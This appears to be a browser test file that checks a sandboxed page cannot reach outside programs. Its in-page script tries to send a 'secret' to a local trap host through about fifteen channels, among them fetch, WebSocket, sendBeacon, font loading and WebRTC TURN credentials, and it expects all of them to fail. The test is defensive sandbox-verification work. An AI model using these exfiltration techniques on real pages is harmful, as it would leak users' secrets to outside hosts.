import { expect, test } from './fixture.ts'
import { openTrap } from './trap.ts'

test('the page reaches no other program, not even through a peer connection', async ({ start }) => {
  const run = await start()
  const trap = await openTrap()
  const tried = await run.page.evaluate(`(async () => {
    const address = 'http://${trap.host}/?secret=key'
    const ended = {}
    const element = (name, properties) => new Promise((resolve) => {
      const made = Object.assign(document.createElement(name), properties)
      made.onerror = () => resolve('failed')
      made.onload = () => resolve('loaded')
      document.body.append(made)
    })
    ended.fetch = await fetch(address, { mode: 'no-cors' }).then(() => 'sent', () => 'failed')
    ended.xhr = await new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onerror = () => resolve('failed')
      request.onload = () => resolve('sent')
      request.open('GET', address)
      request.send()
    })
    ended.socket = await new Promise((resolve) => {
      try {
        const socket = new WebSocket('ws://${trap.host}/')
        socket.onopen = () => resolve('sent')
        socket.onerror = () => resolve('failed')
      } catch { resolve('failed') }
    })
    ended.events = await new Promise((resolve) => {
      const source = new EventSource(address)
      source.onerror = () => { source.close(); resolve('failed') }
    })
    ended.image = await element('img', { src: address })
    ended.style = await element('link', { rel: 'stylesheet', href: address })
    ended.prefetch = await element('link', { rel: 'prefetch', href: address })
    ended.video = await element('video', { src: address })
    for (const rel of ['preconnect', 'dns-prefetch', 'prerender']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href: address }))
    }
    document.body.append(Object.assign(document.createElement('iframe'), { src: address }))
    navigator.sendBeacon(address, 'key')
    ended.font = await new FontFace('stolen', 'url(' + address + ')').load().then(() => 'sent', () => 'failed')
    ended.peer = await new Promise((resolve) => {
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${trap.udpPort}' }, { urls: ['turn:127.0.0.1:${trap.udpPort}', 'turn:${trap.host}?transport=tcp'], username: 'a stolen key', credential: 'x' }] })
        peer.createDataChannel('leak')
        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve('failed')
        peer.setLocalDescription().catch(() => resolve('failed'))
      } catch { resolve('failed') }
    })
    return ended
  })()`)
  expect(Object.entries(Object(tried)).filter(([, ended]) => ended !== 'failed')).toEqual([])
  expect(trap.hits()).toBe(0)
  await trap.close()
})
